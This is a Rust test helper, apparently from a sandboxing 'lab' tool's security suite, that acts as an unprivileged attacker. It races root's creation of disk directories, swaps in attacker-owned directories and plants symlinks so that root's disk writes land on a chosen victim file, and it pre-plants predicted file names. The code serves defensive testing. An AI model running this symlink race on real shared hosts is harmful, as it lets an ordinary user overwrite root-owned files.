//! The attacks on the lab's directory of disks (`--disk-dir`), played by an ordinary user of the
//! host (`tests/security/diskdir.rs`).
//!
//! The lab, as root, makes a directory `isolab-<lab id>…` in the disk directory and the disk
//! files of its instances in it; a `process` instance then opens its disk by name and writes it.
//! Whoever may rename entries of the disk directory — its owner, or anyone where it is writable
//! and not sticky — can swap the lab's directory for one of their own between those steps, and
//! in their own directory swap the disk for a symbolic link to a file of root's.
//!
//! * `race-disk DIR VICTIM`: watch `DIR` for the lab's `isolab-*` directory; as it appears,
//!   rename it away and put a directory of the attacker's in its place, holding a link to
//!   `VICTIM` named as the lab's first disk (`<lab id>-0.img`: the lab had most likely made it
//!   already); should the lab make a disk file in there after all, replace it with such a link
//!   too. Runs until killed, one line per step on standard output (`swapped NAME`, `swap NAME
//!   errno=E`, `redirected NAME/FILE`).
//! * `plant-disk DIR TMP FIRST COUNT`: plant the names the lab would use in `DIR` before it
//!   does — `.isolab-direct-<pid>` for every PID of `FIRST..FIRST+COUNT` (where the test makes
//!   the kernel hand out the lab's PID), then, as each lab's id shows in `TMP` (its work
//!   directory `isolab-<id>`), a directory `DIR/isolab-<id>`. Says `planted N` once the PIDs
//!   are planted, then `planted isolab-<id>` per lab; runs until killed.

use std::collections::BTreeSet;
use std::io::Write;
use std::os::unix::fs::{DirBuilderExt, MetadataExt};
use std::path::Path;

fn say(line: &str) {
    let mut out = std::io::stdout().lock();
    let _ = writeln!(out, "{line}");
    let _ = out.flush();
}

fn errno_of(e: &std::io::Error) -> i32 {
    e.raw_os_error().unwrap_or(0)
}

/// Names in `dir`, or none when it cannot be read.
fn names(dir: &Path) -> Vec<String> {
    std::fs::read_dir(dir)
        .map(|d| {
            d.flatten()
                .map(|e| e.file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default()
}

/// `race-disk DIR VICTIM` (see the module's documentation).
pub fn race(dir: &str, victim: &str) -> ! {
    let dir = Path::new(dir);
    let me = std::process::id();
    let mut seen = BTreeSet::new();
    let mut mine: Vec<String> = Vec::new();
    let mut redirected = BTreeSet::new();
    let mut n = 0u32;
    loop {
        for name in names(dir) {
            if !name.starts_with("isolab-") || seen.contains(&name) {
                continue;
            }
            let path = dir.join(&name);
            // Only the lab's (root's); the directories put in their place are this user's.
            match std::fs::symlink_metadata(&path) {
                Ok(m) if m.is_dir() && m.uid() == 0 => {}
                _ => continue,
            }
            seen.insert(name.clone());
            n += 1;
            let away = dir.join(format!(".taken-{me}-{n}"));
            match std::fs::rename(&path, &away) {
                Ok(()) => {
                    let made = std::fs::DirBuilder::new().mode(0o777).create(&path);
                    match made {
                        Ok(()) => {
                            say(&format!("swapped {name}"));
                            // The lab most likely made its first disk before this loop saw its
                            // directory: put a link where the workload will open it.
                            let id = name.trim_start_matches("isolab-");
                            let disk = format!("{id}-0.img");
                            let key = format!("{name}/{disk}");
                            match std::os::unix::fs::symlink(victim, path.join(&disk)) {
                                Ok(()) => say(&format!("redirected {key}")),
                                Err(e) => say(&format!("redirect {key} errno={}", errno_of(&e))),
                            }
                            redirected.insert(key);
                            mine.push(name);
                        }
                        Err(e) => say(&format!("swap {name} mkdir errno={}", errno_of(&e))),
                    }
                }
                Err(e) => say(&format!("swap {name} errno={}", errno_of(&e))),
            }
        }
        for name in &mine {
            let ours = dir.join(name);
            for file in names(&ours) {
                let key = format!("{name}/{file}");
                if !file.ends_with(".img") || redirected.contains(&key) {
                    continue;
                }
                let path = ours.join(&file);
                // The lab's file, in this user's directory: this user may remove it (the
                // directory is theirs and not sticky) and put a link in its place.
                match std::fs::symlink_metadata(&path) {
                    Ok(m) if m.file_type().is_file() => {}
                    _ => continue,
                }
                redirected.insert(key.clone());
                let linked = std::fs::remove_file(&path)
                    .and_then(|()| std::os::unix::fs::symlink(victim, &path));
                match linked {
                    Ok(()) => say(&format!("redirected {key}")),
                    Err(e) => say(&format!("redirect {key} errno={}", errno_of(&e))),
                }
            }
        }
        std::thread::yield_now();
    }
}

/// `plant-disk DIR TMP FIRST COUNT` (see the module's documentation).
pub fn plant(dir: &str, tmp: &str, first: u32, count: u32) -> ! {
    let dir = Path::new(dir);
    let mut planted = 0;
    for pid in first..first + count {
        if std::fs::write(dir.join(format!(".isolab-direct-{pid}")), b"planted").is_ok() {
            planted += 1;
        }
    }
    say(&format!("planted {planted}"));
    let mut seen = BTreeSet::new();
    loop {
        for name in names(Path::new(tmp)) {
            let Some(id) = name.strip_prefix("isolab-") else {
                continue;
            };
            if id.len() != 12 || !seen.insert(name.clone()) {
                continue;
            }
            match std::fs::DirBuilder::new()
                .mode(0o755)
                .create(dir.join(&name))
            {
                Ok(()) => say(&format!("planted {name}")),
                Err(e) => say(&format!("plant {name} errno={}", errno_of(&e))),
            }
        }
        std::thread::yield_now();
    }
}
